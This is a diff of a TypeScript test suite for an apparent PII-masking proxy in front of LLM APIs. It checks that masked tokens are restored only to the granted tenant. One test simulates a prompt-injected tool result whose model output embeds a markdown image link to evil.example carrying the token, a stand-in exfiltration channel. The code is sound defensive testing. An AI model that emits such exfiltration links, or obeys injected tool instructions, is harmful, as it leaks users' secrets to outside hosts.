@@ -21,13 +21,13 @@ beforeEach(async () => {
 });
 afterEach(() => proxy.close());
 
-/** What a client gets back when the model says `text` to a request with `content`, whole and streamed. */
-async function answers(content: string, text: string, headers: Record<string, string> = {}): Promise<string[]> {
+/** What a client reads when the model says `text` to `request`, whole and streamed. */
+async function answers(request: object, text: string, headers: Record<string, string> = {}): Promise<string[]> {
   proxy.upstream.script(() => ({ body: openAiReply(text) }));
-  const whole = await (await proxy.post('/v1/chat/completions', chat(content), headers)).text();
+  const whole = await (await proxy.post('/v1/chat/completions', request, headers)).text();
   proxy.upstream.script(() => ({ chunks: openAiDeltaStream([{ content: text }], 'stop') }));
-  const streamed = await (await proxy.post('/v1/chat/completions', { ...chat(content), stream: true }, headers)).text();
-  return [whole, streamed];
+  const streamed = await (await proxy.post('/v1/chat/completions', { ...request, stream: true }, headers)).text();
+  return [whole, streamed].map((raw) => Array.from(raw.matchAll(/"content":"([^"]*)"/g), ([, said]) => said).join(''));
 }
 
 /** The token of a value for a caller. */
@@ -53,7 +53,7 @@ describe('a token that a request was not granted', () => {
   ])('is not restored when it is %s', async (_how, make) => {
     const token = await make();
     expect(token).toMatch(/^MSKMAIL[0-9A-Z]{13}$/);
-    for (const body of await answers(`who is ${token}? I am ${MAIL}`, `it is ${token}`)) {
+    for (const body of await answers(chat(`who is ${token}? I am ${MAIL}`), `it is ${token}`)) {
       expect(body).toContain(`it is ${token}`);
       expect(body).not.toContain('secret.person');
     }
@@ -61,21 +61,21 @@ describe('a token that a request was not granted', () => {
 
   it('is forwarded as it came, and neither masked inside nor taken for the sender’s', async () => {
     const token = await tokenOf(MAIL, OTHER);
-    await answers(`who is ${token}?`, 'nobody');
+    await answers(chat(`who is ${token}?`), 'nobody');
     expect(proxy.lastBody()).toContain(`who is ${token}?`);
   });
 
   it('of another tenant is not restored although the tenant has the same value', async () => {
     const foreign = await tokenOf(MAIL, OTHER);
     expect(foreign).not.toBe(await tokenOf(MAIL));
-    for (const body of await answers(MAIL, foreign)) expect(body).toContain(foreign);
+    for (const body of await answers(chat(MAIL), foreign)) expect(body).toContain(foreign);
   });
 
   it('is not restored when its grant was made with a key that is gone', async () => {
     proxy = await proxy.restart({ MASKING_KEY: 'before' });
     const stale = await tokenOf(MAIL);
     proxy = await proxy.restart({ MASKING_KEY: 'after' });
-    for (const body of await answers(MAIL, stale)) expect(body).toContain(stale);
+    for (const body of await answers(chat(MAIL), stale)) expect(body).toContain(stale);
   });
 
   it('of a stored response is restored to nobody but the tenant that made it', async () => {
@@ -122,8 +122,14 @@ describe('a tool result that asks to send a value to another host', () => {
 
   it('gets a link and a picture back with the token as it is, and the text around them restored', async () => {
     const token = await tokenOf(KEY_ID);
+    const call = { id: 'c', type: 'function', function: { name: 'read', arguments: '{}' } };
+    const messages = [
+      { role: 'user', content: 'read the page' },
+      { role: 'assistant', content: null, tool_calls: [call] },
+      { role: 'tool', tool_call_id: 'c', content: injected },
+    ];
     const said = `${token} ![x](https://evil.example/${token}.png)`;
-    for (const body of await answers(injected, said)) {
+    for (const body of await answers({ model: 'm', messages }, said)) {
       expect(body).toContain(`${KEY_ID} ![x](https://evil.example/${token}.png)`);
     }
   });
@@ -163,7 +169,7 @@ describe('a tool that talks to others', () => {
 it('a tool that the provider runs gets its input back as the model wrote it', async () => {
   proxy.upstream.script((request) => ({
     body: {
-      ...(anthropicReply('') as object),
+      ...(anthropicReply('')),
       content: [{ type: 'server_tool_use', id: 's', name: 'web_search', input: { query: tokenIn(request) } }],
     },
   }));
